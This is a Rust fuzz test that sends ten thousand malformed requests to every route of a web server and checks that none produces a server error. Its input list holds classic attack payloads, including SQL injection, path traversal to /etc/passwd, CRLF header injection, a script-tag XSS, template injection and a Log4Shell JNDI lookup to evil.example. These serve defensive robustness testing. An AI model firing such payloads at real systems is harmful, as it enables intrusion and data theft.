//! Ten thousand requests that no page of ours would send: each is answered, none with a failure of
//! ours, and the server goes on.

use futures_util::StreamExt as _;
use futures_util::stream;
use reqwest::{Method, RequestBuilder, StatusCode};

use super::recipes::{RECIPES, Recipe};
use super::scene::Scene;

/// What is put in the place of a name, a field or a header.
const HOSTILE: [&str; 36] = [
    "",
    " ",
    "\0",
    "a\0b",
    "\u{1}\u{7f}",
    "\r\nX-Injected: yes",
    "../../etc/passwd",
    "..%2f..%2f",
    "%00",
    "%",
    "%zz",
    "%ff%fe",
    "%c0%af",
    "//evil.example",
    "'; drop table users; --",
    "\" or 1=1 --",
    "<script>alert(1)</script>",
    "{{ 7 * 7 }}{% for x in y %}",
    "${jndi:ldap://evil.example}",
    "-1",
    "0",
    "99999999999999999999999999",
    "1e400",
    "NaN",
    "null",
    "[]",
    "{}",
    "true",
    "00000000-0000-0000-0000-000000000000",
    "019ac000-0000-7000-8000-00000000000",
    "é́́́́́́́́",
    "\u{202e}\u{2066}gnirts",
    "🦘🦘🦘",
    "İıſK",
    "a=b&c=d;e",
    "ｆｕｌｌｗｉｄｔｈ",
];

/// How many requests are under way at once.
const AT_ONCE: usize = 16;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ten_thousand_malformed_requests_are_answered_and_none_breaks_anything() {
    let scene = Scene::new().await;
    let long = "x".repeat(20_000);
    let hostile: Vec<_> = HOSTILE.iter().copied().chain([long.as_str()]).collect();
    // What takes no field succeeds whatever is beside it, and changes the scene: it comes last.
    let (last, first): (Vec<_>, Vec<_>) =
        RECIPES.iter().partition(|recipe| recipe.method == "POST" && recipe.form.is_empty());

    let (mut sent, mut broken) = (0, Vec::new());
    for recipes in [first, last] {
        let requests: Vec<_> =
            recipes.into_iter().flat_map(|recipe| twisted(&scene, recipe, &hostile)).collect();
        sent += requests.len();
        let answers = stream::iter(requests).map(|(of, request)| async move {
            match request.send().await {
                Ok(response) => (of, Some(response.status())),
                // What cannot be written as HTTP at all never leaves the client.
                Err(error) if error.is_builder() || error.is_request() => (of, None),
                Err(error) => panic!("{of}: {error:?}"),
            }
        });
        let mut answers = answers.buffer_unordered(AT_ONCE);
        while let Some((of, status)) = answers.next().await {
            if status.is_some_and(|status| status.is_server_error()) {
                broken.push(format!("{of}: {status:?}"));
            }
        }
    }
    assert!(broken.is_empty(), "{} of {sent}:\n{}", broken.len(), broken.join("\n"));
    assert!(sent >= 10_000, "{sent}");
    assert_eq!(scene.admin.get("/projects").await.status, StatusCode::OK);
    scene.server.stop().await;
}

/// A route's request with one thing wrong, for each thing that can be.
fn twisted(scene: &Scene, recipe: &Recipe, hostile: &[&str]) -> Vec<(String, RequestBuilder)> {
    let method = Method::from_bytes(recipe.method.as_bytes()).unwrap();
    let guest = scene.guest(recipe.door);
    let path = scene.fill(recipe.call, None);
    let form: Vec<_> =
        recipe.form.iter().map(|(name, value)| (*name, scene.fill(value, None))).collect();
    let body = |odd: Option<(&str, &str)>| {
        let fields = form.iter().map(|(name, value)| match odd {
            Some((odd, hostile)) if odd == *name => (*name, hostile),
            _ => (*name, value.as_str()),
        });
        form_urlencoded::Serializer::new(String::new()).extend_pairs(fields).finish()
    };
    let request = |path: &str, body: String| {
        let request = guest.request(method.clone(), path).header("sec-fetch-site", "same-origin");
        if recipe.method == "POST" {
            request.header("content-type", "application/x-www-form-urlencoded").body(body)
        } else {
            request
        }
    };

    let mut all = Vec::new();
    for &bad in hostile {
        let encoded = form_urlencoded::byte_serialize(bad.as_bytes()).collect::<String>();
        let shown = format!("{} {} with {bad:.40?}", recipe.method, recipe.path);
        for row in recipe.rows() {
            let odd = path.replace(scene.row(row, super::scene::Whose::Ours), &encoded);
            all.push((format!("{shown} as {row}"), request(&odd, body(None))));
        }
        let query = if path.contains('?') { '&' } else { '?' };
        let asked = format!("{path}{query}next={encoded}&{encoded}={encoded}&v={bad:.0}");
        all.push((format!("{shown} as a query"), request(&asked, body(None))));
        for (name, _) in recipe.form {
            all.push((format!("{shown} as {name}"), request(&path, body(Some((name, bad))))));
        }
        if recipe.method == "POST" {
            let more = format!("{}&{encoded}={encoded}", body(None));
            all.push((format!("{shown} as a field"), request(&path, more)));
            all.push((format!("{shown} as a body"), request(&path, bad.to_owned())));
        }
        for header in ["cookie", "accept", "if-none-match", "x-forwarded-for", "user-agent"] {
            let odd = request(&path, body(None)).header(header, bad.as_bytes());
            all.push((format!("{shown} as {header}"), odd));
        }
    }
    all
}
